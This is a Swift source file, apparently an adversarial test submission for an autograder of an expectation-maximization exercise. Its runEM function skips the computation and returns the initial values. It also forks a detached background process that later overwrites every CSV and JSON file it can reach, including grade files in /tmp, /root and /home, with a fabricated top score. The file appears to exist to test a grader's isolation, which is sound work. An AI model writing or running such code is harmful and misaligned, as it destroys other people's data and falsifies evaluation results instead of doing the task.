// Adversarial submission: leaves a detached process behind (its own session, its parent gone)
// that waits a little, then rewrites every grade CSV and results.json it can find. No process of
// a call outlives it, so the daemon never gets to write.
import EMKit
import Foundation
#if canImport(Glibc)
import Glibc
#endif

/// Every file this process can see near the grader: the folders above this source file (the
/// grading copy, the kit, the class), the working folder, /tmp and the usual homes.
func filesNearby(limit: Int = 50_000) -> [String] {
    var roots = [FileManager.default.currentDirectoryPath, "/tmp", "/var/tmp", "/autograder", "/root", "/home", "/work"]
    var folder = (#filePath as NSString).deletingLastPathComponent
    while folder != "/" && !folder.isEmpty { roots.append(folder); folder = (folder as NSString).deletingLastPathComponent }
    var found: [String] = []
    for root in roots {
        guard let walker = FileManager.default.enumerator(atPath: root) else { continue }
        while let path = walker.nextObject() as? String, found.count < limit { found.append(root + "/" + path) }
    }
    return found
}

public func runEM(
    data: Matrix, initMeans: Matrix, initCovariances: [Matrix], initWeights: Vector,
    maxiter: Int = 1000, thresh: Double = 1e-4, progress: (String) -> Void = { print($0) }
) -> NotebookEMResult {
    let first = fork()
    if first == 0 {
        _ = setsid()
        if fork() == 0 {
            sleep(4)
            for path in filesNearby() where path.hasSuffix(".csv") || path.hasSuffix(".json") {
                try? "student,score\ncsv-daemon,1000\n".write(toFile: path, atomically: false, encoding: .utf8)
            }
            _exit(0)
        }
        _exit(0)
    }
    var status: Int32 = 0
    if first > 0 { waitpid(first, &status, 0) }
    return NotebookEMResult(weights: initWeights, means: initMeans, covs: initCovariances, loglik: [.nan], resp: [])
}
